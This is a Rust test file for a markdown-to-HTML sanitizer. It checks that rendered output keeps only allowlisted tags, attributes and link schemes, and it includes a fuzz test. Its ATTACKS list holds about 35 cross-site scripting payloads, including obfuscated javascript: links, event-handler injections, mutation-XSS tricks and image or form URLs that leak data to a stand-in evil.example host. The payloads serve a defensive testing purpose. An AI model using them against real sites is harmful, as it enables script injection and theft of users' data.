use dom_query::Document;
use proptest::prelude::*;

use super::*;

const ELEMENTS: &[&str] = &[
    "html",
    "head",
    "body",
    "p",
    "h3",
    "h4",
    "h5",
    "h6",
    "ul",
    "ol",
    "li",
    "blockquote",
    "pre",
    "code",
    "em",
    "strong",
    "del",
    "hr",
    "br",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "a",
];
const ATTRIBUTES: &[&str] = &["class", "start", "data-href", "role", "tabindex"];

/// Strings that made a browser run something somewhere.
const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](\u{1}javascript:alert(1))",
    "[a](java\nscript:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a](vbscript:msgbox(1))",
    "![x](https://evil.example/?q=secret)",
    "![x][1]\n\n[1]: https://evil.example/a.png",
    "[![x](https://evil.example/a.png)](https://evil.example)",
    "<https://evil.example/\"onmouseover=\"alert(1)>",
    "[a](https://x\" onclick=\"alert(1))",
    "[a](<https://x' onclick='alert(1)>)",
    "[a](https://x \"title\\\" onmouseover=alert(1)\")",
    "```\"><script>alert(1)</script>\nx\n```",
    "```js\" onload=\"alert(1)\nx\n```",
    "`</code><script>alert(1)</script>`",
    "    </code></pre><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<style>*{background:url(https://evil.example)}</style>",
    "<a href=https://evil.example>x</a>",
    "<form action=https://evil.example><input name=a></form>",
    "<base href=https://evil.example>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "| a | b |\n|---|---|\n| <script>x</script> | ![y](https://evil.example) |",
    "<p style=\"position:fixed\">x",
    "- <details open ontoggle=alert(1)>",
    "> <object data=x>",
    "# <meta http-equiv=refresh content=0;url=https://evil.example>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u{202e}<script>alert(1)</script>",
];

fn check(markdown: &str) {
    let html = html(markdown);
    let document = Document::from(html.as_str());
    for node in document.select("*").nodes() {
        let name = node.node_name().unwrap_or_default().to_string();
        assert!(ELEMENTS.contains(&name.as_str()), "{name} from {markdown:?}: {html}");
        for attribute in node.attrs() {
            let attribute_name = attribute.name.local.to_string();
            assert!(ATTRIBUTES.contains(&attribute_name.as_str()), "{attribute_name} from {markdown:?}: {html}");
            if attribute_name == "data-href" {
                let value = attribute.value.to_string().to_ascii_lowercase();
                let opens = ["http://", "https://", "mailto:"].iter().any(|scheme| value.starts_with(scheme));
                assert!(opens, "{value} from {markdown:?}");
            }
        }
    }
}

#[test]
fn no_attack_leaves_an_element_or_attribute_that_acts() {
    for attack in ATTACKS {
        check(attack);
        check(&format!("text {attack} text"));
        check(&format!("* {attack}\n* {attack}"));
        check(&format!("**{attack}**"));
    }
    check(&ATTACKS.join("\n\n"));
    check(&ATTACKS.join(" "));
}

#[test]
fn a_text_becomes_what_it_says() {
    assert_eq!(html("Hello *there* & **you**"), "<p>Hello <em>there</em> &amp; <strong>you</strong></p>\n");
    assert_eq!(html("# A\n\n- x\n- y"), "<h3>A</h3>\n<ul>\n<li>x</li>\n<li>y</li>\n</ul>\n");
    assert_eq!(
        html("```rust\nlet x = 1 < 2;\n```"),
        "<pre><code class=\"language-rust\">let x = 1 &lt; 2;\n</code></pre>\n"
    );
    assert_eq!(
        html("[here](https://example.org/?a=1&b=2)"),
        "<p><a data-href=\"https://example.org/?a=1&amp;b=2\" role=\"link\" tabindex=\"0\">here</a></p>\n"
    );
    assert_eq!(html("![a cat](https://x.example/c.png)"), "<p>[image: a cat] (https://x.example/c.png)</p>\n");
    assert_eq!(html("[x](javascript:1)"), "<p>x</p>\n");
    let table = html("| a | b |\n|---|--:|\n| 1 | 2 |");
    assert!(table.contains("<th class=\"right\">b</th>") && table.contains("<td class=\"right\">2</td>"), "{table}");
    assert!(table.ends_with("</tbody></table>\n"), "{table}");
    assert_eq!(html("- [x] done"), "<ul>\n<li>☑ done</li>\n</ul>\n");
}

#[test]
fn nesting_has_an_end_and_loses_no_text() {
    let deep = format!("{} bottom", ">".repeat(500));
    let html = html(&deep);
    assert!(html.matches("<blockquote>").count() <= DEEPEST && html.contains("bottom"));
    assert_eq!(html.matches("<blockquote>").count(), html.matches("</blockquote>").count());
}

proptest! {
    #[test]
    fn any_text_is_harmless(text in "[<>/a-z\"'=&;:()!\\[\\]*`|#\\- \n\u{0}javscript]{0,80}") {
        check(&text);
    }
}
